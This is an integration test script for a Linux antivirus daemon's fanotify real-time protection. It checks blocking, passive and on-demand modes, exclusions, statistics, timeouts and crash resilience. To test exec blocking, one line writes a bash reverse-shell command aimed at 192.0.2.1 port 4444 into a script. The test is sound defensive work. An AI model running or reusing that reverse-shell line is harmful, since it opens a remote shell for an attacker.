#!/usr/bin/env bash
# Real-time protection against the real daemon on the tmpfs the sandbox mounts
# ($MDATP_RTP_MOUNTS): open and exec denied in real_time, reported in passive, no marks in
# on_demand; each exclusion kind; rescans after modification; statistics; a timed-out scan
# answers allow; the daemon's own reads pass; SIGKILL during an open storm leaves nobody
# blocked; a definitions swap during an open storm and a scan fails no open; another fanotify
# listener shows in health.
. "$(dirname "$0")/lib.sh"

rtp="$MDATP_RTP_MOUNTS"
[ -n "$rtp" ] && mountpoint -q "$rtp" || { fail "no RTP test mount ($rtp)"; finish; exit 1; }
set_level() {
        busctl --system call com.microsoft.Mdatp1 /com/microsoft/Mdatp1 com.microsoft.Mdatp1.Settings Set sv \
                antivirusEngine.enforcementLevel s "$1" >/dev/null
}
# open_storm DIR: opens and reads every file in DIR; prints "failures max_ms".
open_storm() {
        /usr/bin/python3 - "$1" <<'EOF'
import os, sys, time
d = sys.argv[1]; worst = 0.0; failures = 0
for name in sorted(os.listdir(d)):
    t = time.monotonic()
    try:
        with open(os.path.join(d, name), "rb") as f: f.read()
    except OSError:
        failures += 1
    worst = max(worst, time.monotonic() - t)
print(failures, int(worst * 1000))
EOF
}
make_files() {  # make_files DIR N: N small clean files, new inodes
        mkdir -p "$1"
        /usr/bin/python3 -c '
import os, sys
for i in range(int(sys.argv[2])):
    with open(os.path.join(sys.argv[1], "f%05d.txt" % i), "w") as f: f.write("clean file %d\n" % i)' "$1" "$2"
}

# ---- health
expect_eq "health: real-time protection enabled" "$(health_field real_time_protection_enabled)" "true"
expect_eq "health: available" "$(health_field real_time_protection_available)" "true"
expect_eq "health: subsystem" "$(health_field real_time_protection_subsystem)" '"fanotify"'
expect_eq "marked mounts are exactly the test mount" "$(rtp_prop MarkedMounts)" "as 1 \"$rtp\""
expect_eq "mode block" "$(rtp_prop Mode)" 's "block"'

# ---- real_time: open and exec denied, threat recorded and quarantined
eicar >"$rtp/eicar.com"
run cat "$rtp/eicar.com"
expect_rc "open of EICAR denied" 1
expect_contains "... with EPERM" "$OUT" "Operation not permitted"
wait_until 10 sh -c "mdatp threat list | grep -q '$rtp/eicar.com'" && pass "RTP detection recorded" || fail "no threat record"
expect_contains "... as real_time" "$(mdatp threat list --output json)" '"source":"real_time"'
wait_until 10 sh -c "[ ! -e '$rtp/eicar.com' ]" && pass "RTP detection quarantined (across filesystems)" || fail "not quarantined"
printf '#!/bin/bash\nbash -i >& /dev/%s/192.0.2.1/4444 0>&1\n' tcp >"$rtp/shell.sh"   # assembled: this file is no sample
chmod +x "$rtp/shell.sh"
run "$rtp/shell.sh"
expect_rc "exec of a malicious script denied" 126
expect_contains "... with EPERM" "$OUT" "Operation not permitted"
echo "hello" >"$rtp/clean.txt"
run cat "$rtp/clean.txt"
expect_eq "clean file readable" "$OUT" "hello"
scanned=$(rtp_counter scanned)
for _ in 1 2 3 4 5; do cat "$rtp/clean.txt" >/dev/null; done
expect_eq "unchanged clean file is not scanned again" "$(rtp_counter scanned)" "$scanned"
echo "hello again" >>"$rtp/clean.txt"
cat "$rtp/clean.txt" >/dev/null
[ "$(rtp_counter scanned)" -gt "$scanned" ] && pass "a modified file is scanned again" || fail "modified file not rescanned"
eicar >"$rtp/clean.txt"
run cat "$rtp/clean.txt"
expect_rc "a file that turned malicious on write is denied on the next open" 1

# ---- passive: allowed and reported
set_level passive
wait_until 5 sh -c "busctl --system get-property com.microsoft.Mdatp1 /com/microsoft/Mdatp1/RealTimeProtection com.microsoft.Mdatp1.RealTimeProtection Mode | grep -q audit" || fail "mode audit"
before=$(threat_count)
eicar >"$rtp/passive.com"
run cat "$rtp/passive.com"
expect_rc "passive: open allowed" 0
wait_until 10 sh -c "[ \$(mdatp threat list --output json | grep -o '\"tracking_id\"' | wc -l) -gt $before ]" && pass "passive: detection reported" || fail "passive: not reported"
[ -e "$rtp/passive.com" ] && pass "passive: file stays" || fail "passive: file moved"

# ---- on_demand: no marks at all
set_level on_demand
wait_until 5 sh -c "busctl --system get-property com.microsoft.Mdatp1 /com/microsoft/Mdatp1/RealTimeProtection com.microsoft.Mdatp1.RealTimeProtection Enabled | grep -q false" && pass "on_demand: disabled" || fail "on_demand: still enabled"
expect_eq "on_demand: no marks" "$(rtp_prop MarkedMounts)" "as 0"
before=$(threat_count)
run cat "$rtp/passive.com"
expect_rc "on_demand: open allowed" 0
sleep 0.5
expect_eq "on_demand: nothing reported" "$(threat_count)" "$before"

# ---- exclusions, in real_time again
run mdatp config real-time-protection --value enabled
wait_until 5 sh -c "busctl --system get-property com.microsoft.Mdatp1 /com/microsoft/Mdatp1/RealTimeProtection com.microsoft.Mdatp1.RealTimeProtection Mode | grep -q block" || fail "mode block again"
mkdir -p "$rtp/excluded"
eicar >"$rtp/excluded/e.com"; eicar >"$rtp/e.skip"; eicar >"$rtp/p.com"; eicar >"$rtp/g.com"
mdatp exclusion folder add --path "$rtp/excluded/" >/dev/null
mdatp exclusion extension add --name .skip >/dev/null
mdatp exclusion process add --name md5sum >/dev/null
mdatp exclusion file add --path "$rtp/g.com" --scope global >/dev/null
run cat "$rtp/excluded/e.com"; expect_rc "epp folder exclusion: allowed" 0
run cat "$rtp/e.skip"; expect_rc "epp extension exclusion: allowed" 0
run md5sum "$rtp/p.com"; expect_rc "epp process exclusion: allowed for md5sum" 0
run cat "$rtp/p.com"; expect_rc "... but not for cat" 1
run cat "$rtp/g.com"; expect_rc "global file exclusion: allowed" 0
mdatp exclusion folder add --path "$rtp/" >/dev/null
wait_until 5 sh -c "[ \"\$(busctl --system get-property com.microsoft.Mdatp1 /com/microsoft/Mdatp1/RealTimeProtection com.microsoft.Mdatp1.RealTimeProtection MarkedMounts)\" = 'as 0' ]" && pass "a mount-point exclusion unmarks the mount" || fail "mount still marked: $(rtp_prop MarkedMounts)"
mdatp exclusion folder remove --path "$rtp/" >/dev/null
mdatp exclusion folder remove --path "$rtp/excluded/" >/dev/null
mdatp exclusion extension remove --name .skip >/dev/null
mdatp exclusion process remove --name md5sum >/dev/null
mdatp exclusion file remove --path "$rtp/g.com" --scope global >/dev/null
wait_until 5 sh -c "[ \"\$(busctl --system get-property com.microsoft.Mdatp1 /com/microsoft/Mdatp1/RealTimeProtection com.microsoft.Mdatp1.RealTimeProtection MarkedMounts)\" != 'as 0' ]" || fail "mount not marked again"
rm -rf "$rtp/excluded" "$rtp/e.skip" "$rtp/p.com" "$rtp/g.com"

# ---- statistics: one process, twenty new files
run mdatp config real-time-protection-statistics --value enabled
make_files "$rtp/stats" 20
(cd "$rtp/stats" && cat f*.txt >/dev/null)
json=$(mdatp diagnostic real-time-protection-statistics --output json)
n=$(printf '%s' "$json" | /usr/bin/python3 -c '
import json, sys
print(sum(c["totalFilesScanned"] for c in json.load(sys.stdin)["counters"] if c["name"] == "cat"))')
expect_eq "statistics: cat scanned exactly its 20 files" "$n" "20"
run mdatp diagnostic real-time-protection-statistics --sort --top 1
expect_contains "statistics text" "$OUT" "Total files scanned:"
run mdatp diagnostic real-time-protection-statistics --top 1
expect_rc "--top without --sort is a usage error" 2

# ---- the daemon's own reads pass (an on-demand scan of the watched mount)
make_files "$rtp/self" 20                       # new files: no ignore marks yet
self=$(rtp_counter self)
run timeout 60 mdatp scan custom --path "$rtp/self"
expect_rc "a scan of the watched mount finishes" 0
[ "$(rtp_counter self)" -gt "$self" ] && pass "the daemon's own opens are answered at once" || fail "no self events counted"

# ---- another fanotify listener shows as a conflicting application
/usr/bin/python3 - "$rtp" >"$MDATP_SANDBOX_DIR/listener.out" 2>&1 <<'EOF' &
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.fanotify_init(0, os.O_RDONLY)          # FAN_CLASS_NOTIF: never blocks anyone
assert fd >= 0, ctypes.get_errno()
assert libc.fanotify_mark(fd, 0x1 | 0x10, ctypes.c_uint64(0x20), -100, sys.argv[1].encode()) == 0
print("ready", flush=True)
time.sleep(30)
EOF
listener=$!
wait_until 10 grep -q ready "$MDATP_SANDBOX_DIR/listener.out" || fail "listener did not start: $(cat "$MDATP_SANDBOX_DIR/listener.out")"
# Health reads a walk of /proc at most 5 s old (made off the main loop): the listener shows
# within a few seconds, not at once.
listed() { health_field conflicting_applications | grep -q "pid $listener"; }
if wait_until 15 listed; then pass "health lists the other fanotify listener"; else fail "health does not list listener $listener: $(health_field conflicting_applications)"; fi
expect_not_contains "... but not the daemon itself" "$(health_field conflicting_applications)" "pid $(cat "$MDATPD_PID_FILE")"
kill "$listener"; wait "$listener" 2>/dev/null

# ---- a definitions swap during an open storm and a scan: no open fails or hangs
make_files "$rtp/storm1" 5000
timeout 120 mdatp scan custom --path "$rtp/storm1" >/dev/null 2>&1 &
scan=$!
open_storm "$rtp/storm1" >"$MDATP_SANDBOX_DIR/storm1.out" &
storm=$!
sleep 0.2
run mdatp definitions restore
expect_rc "definitions swapped during the storm" 0
kill -HUP "$(cat "$MDATPD_PID_FILE")"          # and a reload from disk
wait "$storm"; wait "$scan"
read -r failures worst <"$MDATP_SANDBOX_DIR/storm1.out"
expect_eq "swap during an open storm: no open failed" "$failures" "0"
[ "$worst" -lt 2000 ] && pass "swap during an open storm: worst open ${worst} ms" || fail "an open took ${worst} ms"

# ---- SIGKILL during an open storm of 10,000 files: every open returns within 2 s
make_files "$rtp/storm2" 10000
open_storm "$rtp/storm2" >"$MDATP_SANDBOX_DIR/storm2.out" &
storm=$!
sleep 0.3
kill -KILL "$(cat "$MDATPD_PID_FILE")"
wait "$storm"
read -r failures worst <"$MDATP_SANDBOX_DIR/storm2.out"
expect_eq "SIGKILL during the storm: no open failed" "$failures" "0"
[ "$worst" -lt 2000 ] && pass "SIGKILL during the storm: worst open ${worst} ms" || fail "an open took ${worst} ms after SIGKILL"
wait_until 20 daemon_up || fail "daemon back after SIGKILL"

# ---- a timed-out scan answers allow
echo "MDATP_RTP_TIMEOUT_MS=1" >"$MDATP_SANDBOX_DIR/daemon.env"
restart_daemon || fail "restart with a 1 ms timeout"
wait_until 10 sh -c "busctl --system get-property com.microsoft.Mdatp1 /com/microsoft/Mdatp1/RealTimeProtection com.microsoft.Mdatp1.RealTimeProtection Enabled | grep -q true" || fail "RTP back"
head -c 60000000 /dev/urandom >"$rtp/big.bin"
run sh -c "cat '$rtp/big.bin' >/dev/null"
expect_rc "a scan past its deadline answers allow" 0
[ "$(rtp_counter timeouts)" -gt 0 ] && pass "... and the timeout is counted" || fail "no timeout counted"
rm -f "$MDATP_SANDBOX_DIR/daemon.env" "$rtp/big.bin"
restart_daemon || fail "restart"

# ---- the self-check: protection is claimed only when an open from the reference namespace is
# seen. A reference process with a private copy of the mounts (what a namespaced unit gives a
# service) opens through mounts the daemon did not mark: health must say so.
expect_eq "self-check passes against the sandbox's namespace" "$(mdatp health --field healthy)" "true"
unshare -m --propagation private sleep 600 &
private_ns=$!
wait_until 5 sh -c "[ \"\$(readlink /proc/$private_ns/ns/mnt)\" != \"\$(readlink /proc/self/ns/mnt)\" ]" || fail "no private namespace"
echo "MDATP_RTP_SELF_CHECK_PID=$private_ns" >"$MDATP_SANDBOX_DIR/daemon.env"
restart_daemon || fail "restart with a private reference namespace"
wait_until 10 sh -c "mdatp health --field healthy | grep -qx false" || fail "still healthy"
run mdatp health --field health_issues
expect_contains "a blind daemon is reported: not running" "$OUT" "real-time protection is enabled but not running"
expect_contains "... and why" "$OUT" "raised no event"
expect_contains "RealTimeProtection.Error says it too" "$(rtp_prop Error)" "raised no event"
grep -q "not proven to see file accesses" "$MDATP_SANDBOX_DIR/mdatpd.log" && pass "... and the log" || fail "no log line for the failed self-check"
kill "$private_ns"; wait "$private_ns" 2>/dev/null
rm -f "$MDATP_SANDBOX_DIR/daemon.env"
restart_daemon || fail "restart"
wait_until 10 sh -c "mdatp health --field healthy | grep -qx true" && pass "healthy again once the self-check passes" || fail "not healthy again: $(mdatp health --field health_issues)"
ls -A "$rtp" | grep -q mdatp-rtp-self-check && fail "a probe file was left in $rtp" || pass "no probe file left behind"

finish
